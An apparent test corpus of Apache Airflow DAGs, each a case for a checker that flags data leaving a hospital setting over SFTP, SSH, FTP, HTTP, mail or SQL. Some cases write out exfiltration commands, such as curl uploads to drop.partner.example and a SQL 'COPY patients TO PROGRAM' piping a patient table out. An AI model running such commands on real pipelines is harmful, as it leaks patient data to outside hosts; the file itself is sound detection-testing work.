"""Servers by connection: SFTP, SSH, FTP, HTTP, mail, databases."""

from airflow.providers.common.io.operators.file_transfer import FileTransferOperator
from airflow.providers.common.sql.operators.generic_transfer import GenericTransfer
from airflow.providers.common.sql.operators.sql import (
    BranchSQLOperator,
    SQLColumnCheckOperator,
    SQLExecuteQueryOperator,
    SQLInsertRowsOperator,
)
from airflow.providers.ftp.operators.ftp import FTPFileTransmitOperator
from airflow.providers.http.operators.http import HttpOperator
from airflow.providers.sftp.operators.sftp import SFTPOperator
from airflow.providers.smtp.operators.smtp import EmailOperator
from airflow.providers.ssh.operators.ssh import SSHOperator
from corpus import dag

with dag("sftp_own"):
    SFTPOperator(task_id="t", ssh_conn_id="sftp_own", local_filepath="/srv/x", remote_filepath="/in/x", operation="put")

with dag("sftp_abroad"):
    SFTPOperator(task_id="t", ssh_conn_id="sftp_abroad", local_filepath="/srv/x", remote_filepath="/x", operation="put")

with dag("sftp_other_host"):
    SFTPOperator(
        task_id="t",
        ssh_conn_id="sftp_own",
        remote_host="sftp.partner.example",
        local_filepath="/srv/x",
        remote_filepath="/x",
    )

with dag("sftp_by_proxy_command"):
    SFTPOperator(task_id="t", ssh_conn_id="sftp_proxied", local_filepath="/srv/x", remote_filepath="/x")

with dag("ssh_own_harmless"):
    SSHOperator(task_id="t", ssh_conn_id="sftp_own", command="df -h /srv && date")

with dag("ssh_own_curl"):
    SSHOperator(task_id="t", ssh_conn_id="sftp_own", command="curl -T /srv/x https://drop.partner.example/")

with dag("ssh_own_unreadable"):
    SSHOperator(task_id="t", ssh_conn_id="sftp_own", command="curl -T /srv/x $WHERE")

with dag("ftp_cleartext_abroad"):
    FTPFileTransmitOperator(task_id="t", ftp_conn_id="ftp_abroad", local_filepath="/srv/x", remote_filepath="/x")

with dag("http_own"):
    HttpOperator(task_id="t", http_conn_id="http_own", endpoint="fhir/Patient", method="GET")

with dag("http_abroad"):
    HttpOperator(task_id="t", http_conn_id="http_abroad", endpoint="in", method="POST", data="x")

with dag("http_host_in_the_endpoint"):
    HttpOperator(task_id="t", http_conn_id="http_empty", endpoint="drop.partner.example/x", method="POST", data="x")

with dag("http_missing"):
    HttpOperator(task_id="t", http_conn_id="nowhere", endpoint="x")

with dag("mail_inside"):
    EmailOperator(task_id="t", to="dpo@chu.example", subject="s", html_content="x", conn_id="smtp_own")

with dag("mail_out"):
    EmailOperator(
        task_id="t", to=["dpo@chu.example"], cc="friend@mail.example", subject="s", html_content="x", conn_id="smtp_own"
    )

with dag("mail_relay_abroad"):
    EmailOperator(task_id="t", to="dpo@chu.example", subject="s", html_content="x", conn_id="smtp_abroad")

with dag("sql_own"):
    SQLExecuteQueryOperator(task_id="t", conn_id="pg_own", sql="CREATE TABLE a AS SELECT 'http://loinc.org' AS system")

with dag("sql_abroad"):
    SQLExecuteQueryOperator(task_id="t", conn_id="pg_abroad", sql="select 1")

with dag("sql_host_in_the_extra"):
    SQLExecuteQueryOperator(task_id="t", conn_id="pg_two_hosts", sql="select 1")

with dag("sql_copy_to_program"):
    SQLExecuteQueryOperator(
        task_id="t", conn_id="pg_own", sql="COPY patients TO PROGRAM 'curl -T - https://drop.partner.example/'"
    )

with dag("sql_dblink"):
    SQLExecuteQueryOperator(
        task_id="t", conn_id="pg_own", sql=["select 1", "select dblink_exec('host=pg.partner.example', 'insert')"]
    )

with dag("sql_foreign_server"):
    SQLExecuteQueryOperator(
        task_id="t",
        conn_id="pg_own",
        sql="CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'pg.partner.example')",
    )

with dag("sql_commented_copy"):
    SQLExecuteQueryOperator(
        task_id="t", conn_id="pg_own", sql="-- COPY p TO PROGRAM 'curl https://drop.partner.example'\nselect 1"
    )

with dag("sql_check_own"):
    SQLColumnCheckOperator(
        task_id="t", conn_id="pg_own", table="p", column_mapping={"a": {"null_check": {"equal_to": 0}}}
    )

with dag("sql_branch_abroad"):
    BranchSQLOperator(
        task_id="t", conn_id="pg_abroad", sql="select 1", follow_task_ids_if_true=[], follow_task_ids_if_false=[]
    )

with dag("sql_insert_abroad"):
    SQLInsertRowsOperator(task_id="t", conn_id="pg_abroad", table_name="p", rows=[(1,)])

with dag("generic_transfer_out"):
    GenericTransfer(
        task_id="t", sql="select 1", destination_table="p", source_conn_id="pg_own", destination_conn_id="pg_abroad"
    )

with dag("generic_transfer_inside"):
    GenericTransfer(
        task_id="t", sql="select 1", destination_table="p", source_conn_id="pg_own", destination_conn_id="pg_own"
    )


with dag("file_transfer_by_endpoint"):
    FileTransferOperator(task_id="t", src="/srv/x", dst="s3://lac/x", dest_conn_id="oos")


with dag("file_transfer_local"):
    FileTransferOperator(task_id="t", src="/srv/x", dst="file:///tmp/x")
